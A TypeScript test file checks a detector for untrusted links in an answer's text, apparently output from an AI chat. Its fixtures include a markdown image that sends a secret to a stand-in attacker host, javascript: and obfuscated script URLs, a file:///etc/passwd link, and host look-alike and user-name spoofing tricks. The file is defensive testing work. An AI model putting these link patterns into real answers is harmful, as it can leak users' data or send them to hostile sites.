/** Which links of an answer a page should not follow. */
import { describe, expect, it } from 'vitest';
import { findUntrustedLinks } from '../../../src/lib/untrusted-links.ts';

const HOSTS = ['docs.example.com', 'example.org'];
const find = (text: string) => findUntrustedLinks(text, HOSTS);

describe('links to other hosts', () => {
  it.each([
    ['a link', 'See [this](https://evil.example/a).', 'https://evil.example/a'],
    [
      'an image that carries data away',
      '![](https://evil.example/?d=secret)',
      'https://evil.example/?d=secret',
    ],
    ['an address in angle brackets', '<https://evil.example>', 'https://evil.example'],
    ['a bare address', 'Go to https://evil.example/a, now.', 'https://evil.example/a'],
    ['a bare www', 'Go to www.evil.example.', 'www.evil.example'],
    ['a definition', '[it][1]\n\n[1]: https://evil.example/b "t"', 'https://evil.example/b'],
    ['a definition over two lines', '[1]:\n  <//evil.example/b>', '//evil.example/b'],
    ['an image of HTML', '<img src=//evil.example/x.png>', '//evil.example/x.png'],
    [
      'a tab in a host',
      '<a href="https://docs.example.com\t.evil.example">',
      'https://docs.example.com.evil.example',
    ],
    ['a line end before an address', '<img src\n=\n"//evil.example/x">', '//evil.example/x'],
    ['a style', '<p style="background:url(//evil.example/x)">', '//evil.example/x'],
    ['a form', "<form action='https://evil.example'>", 'https://evil.example'],
    ['a script', '[x](javascript:alert(1))', 'javascript:alert(1'],
    ['a script in disguise', '[x](java&#115;cript&#58;alert`1`)', 'java&#115;cript&#58;alert`1`'],
    ['data', '![x](data:image/svg+xml;base64,PHN2Zz4=)', 'data:image/svg+xml;base64,PHN2Zz4='],
    ['a file', '[x](file:///etc/passwd)', 'file:///etc/passwd'],
    ['another scheme', '[x](ms-word:ofe|u|evil)', 'ms-word:ofe|u|evil'],
    [
      'a host behind a user name',
      '[x](https://docs.example.com@evil.example)',
      'https://docs.example.com@evil.example',
    ],
    ['a look-alike', '[x](https://docs.example.com.evil.example)', 'https://docs.example.com.evil.example'],
    ['a part of a trusted name', '[x](https://xexample.org)', 'https://xexample.org'],
    ['slashes the other way', String.raw`[x](/\evil.example)`, String.raw`/\evil.example`],
  ])('%s', (_name, text, link) => {
    expect(find(text)).toEqual([link]);
  });

  it('are found behind the first of several', () => {
    expect(find('<img srcset="a.png 1x, //evil.example/b.png 2x">')).toContain('//evil.example/b.png');
  });

  it('are told once each, in the text of an answer and of any length', () => {
    const text = '[a](https://one.example) https://one.example <https://two.example>';
    expect(find(text)).toEqual(['https://one.example', 'https://two.example']);
    expect(
      find(Array.from({ length: 500 }, (_, index) => `https://${index}.example`).join(' ')),
    ).toHaveLength(100);
  });
});

it.each([
  '[x](https://docs.example.com/a?b=c#d)',
  '![x](http://cdn.example.org/x.png)',
  'https://example.org',
  '[x](#part), [y](chapter.md), [z](/docs/a_(b))',
  'At 12:30 the key is a:b, see std::vector, note: nothing.',
  '',
])('%j leads nowhere else', (text) => {
  expect(find(text)).toEqual([]);
});

it('trusts no host without a list', () => {
  expect(findUntrustedLinks('https://docs.example.com', [])).toEqual(['https://docs.example.com']);
});
